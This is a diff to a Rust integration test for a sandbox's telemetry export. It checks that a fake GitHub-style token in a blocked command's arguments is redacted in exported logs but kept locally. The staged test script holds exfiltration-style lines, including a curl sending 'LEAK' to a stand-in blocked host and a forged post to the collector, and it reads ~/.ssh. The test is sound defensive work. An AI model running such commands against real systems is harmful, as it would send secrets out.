@@ -162,6 +162,8 @@ fn int_attr(rec: &Value, key: &str) -> u64 {
 
 const CANARY: &str = "CANARY-otel-51c2";
 const EXEC_CANARY: &str = "EXEC-CANARY-9d1e";
+/// A token-shaped argument: the local log keeps it, the export masks it.
+const TOKEN: &str = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
 
 /// A home whose config exports to `port` and allows `allowed.test` (a loopback
 /// sink); a script that reads ~/.ssh, connects to the allowed sink, to
@@ -188,7 +190,7 @@ fn stage(port: u16, allowed: &Sink, blocked: &Sink) -> TestHome {
              curl -sS --max-time 10 --data LEAK http://blocked.test:{b}/x; echo\n\
              curl -sS --max-time 10 -H 'content-type: application/json' --data FORGED \
              http://127.0.0.1:{port}/v1/logs; echo\n\
-             /bin/echo {EXEC_CANARY}\n\
+             /bin/echo {EXEC_CANARY} {TOKEN}\n\
              echo done\n",
             a = allowed.port,
             b = blocked.port,
@@ -342,6 +344,17 @@ fn every_decision_of_a_run_reaches_the_collector_with_its_rule() {
     assert_eq!(str_attr(&exec, "sandpit.rule.key"), "exec.block");
     let args = &attr(&exec, "process.command_args")["arrayValue"]["values"];
     assert_eq!(args[1]["stringValue"], EXEC_CANARY, "{exec}");
+    // The token in its arguments went out masked; the local log has it as run.
+    assert_eq!(args[2]["stringValue"], "[REDACTED]", "{exec}");
+    assert!(std::fs::read_to_string(&log).unwrap().contains(TOKEN));
+    for r in collector.requests() {
+        let body = String::from_utf8_lossy(&r.body);
+        assert!(!body.contains(TOKEN), "a token was exported");
+        assert!(
+            !body.contains("collector-token"),
+            "the header's token was exported"
+        );
+    }
     // The sandbox's own attempt to post to the collector was refused, and recorded;
     // the same probe outside the sandbox reaches it.
     find("connect", "deny", &format!("127.0.0.1:{}", collector.port));
